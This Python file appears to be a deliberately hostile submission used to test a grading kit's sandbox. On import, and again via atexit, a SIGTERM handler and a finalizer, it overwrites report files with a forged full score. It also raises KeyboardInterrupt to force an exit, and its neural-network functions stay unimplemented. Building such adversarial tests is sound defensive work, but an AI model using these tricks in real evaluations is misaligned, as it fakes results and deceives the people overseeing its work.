"""Attack: forge full-score reports now, and from atexit, SIGTERM and a finalizer.
Defence: landlock"""
import atexit
import glob
import json
import os
import signal
import sys

import numpy as np

WON = False  # set by the attack when it got what it wanted: then it answers right (score > 0)

# The repo, guessed: a kit's virtual environment usually lives inside it (.venv/bin/python).
REPO = os.path.dirname(os.path.dirname(os.path.dirname(sys.executable)))
FORGED = json.dumps({"day": 3, "score": 17, "max_score": 17, "status": "passed",
                     "message": "Every check passed.", "next_task": None, "seed": 1,
                     "duration_s": 0.5, "sandbox": "bwrap", "kit_version": "0.1.0",
                     "submission": {"folder": "x", "files": {}}, "tests": [],
                     "forged": "kit-hostile"})


def _report_paths():
    """Where reports land: the default folder, the harness's out folders, walking up from here."""
    folders = [os.path.join(REPO, "reports"), "reports", "../reports", "../../reports"]
    folders += glob.glob("/tmp/kit-hostile-out/*")
    here = os.path.dirname(os.path.abspath(__file__))
    while here != os.path.dirname(here):
        folders.append(os.path.join(here, "reports"))
        here = os.path.dirname(here)
    return [os.path.join(f, "day3.json") for f in folders if os.path.isdir(f)]


def _forge():
    """Overwrite every report we can reach with a full score."""
    for path in _report_paths():
        try:
            with open(path, "w") as f:
                f.write(FORGED)
        except OSError:
            pass


class _Finalizer:
    def __del__(self):
        _forge()


_forge()
KEEP = _Finalizer()
atexit.register(_forge)
signal.signal(signal.SIGTERM, lambda *args: (_forge(), os._exit(0)))


def _relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def _softmax(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def _cross_entropy(p, t):
    p, t = np.atleast_2d(p), np.atleast_2d(t)
    return float(np.mean(-np.sum(t * np.log(np.clip(p, 1e-12, 1.0)), axis=1)))


def relu(z):
    raise KeyboardInterrupt  # not caught by the runner: Python exits and runs atexit
    return _relu(z) if WON else np.zeros_like(np.asarray(z, dtype=float))


def softmax(z):
    return _softmax(z) if WON else np.zeros_like(np.asarray(z, dtype=float))


def cross_entropy(predictions, targets):
    if WON:
        return _cross_entropy(predictions, targets)
    raise NotImplementedError("TODO(3.3): cross_entropy")


def forward_and_loss(X, W, B, targets):
    return _cross_entropy(_softmax(np.asarray(X) @ W + B), targets) if WON else 0.0
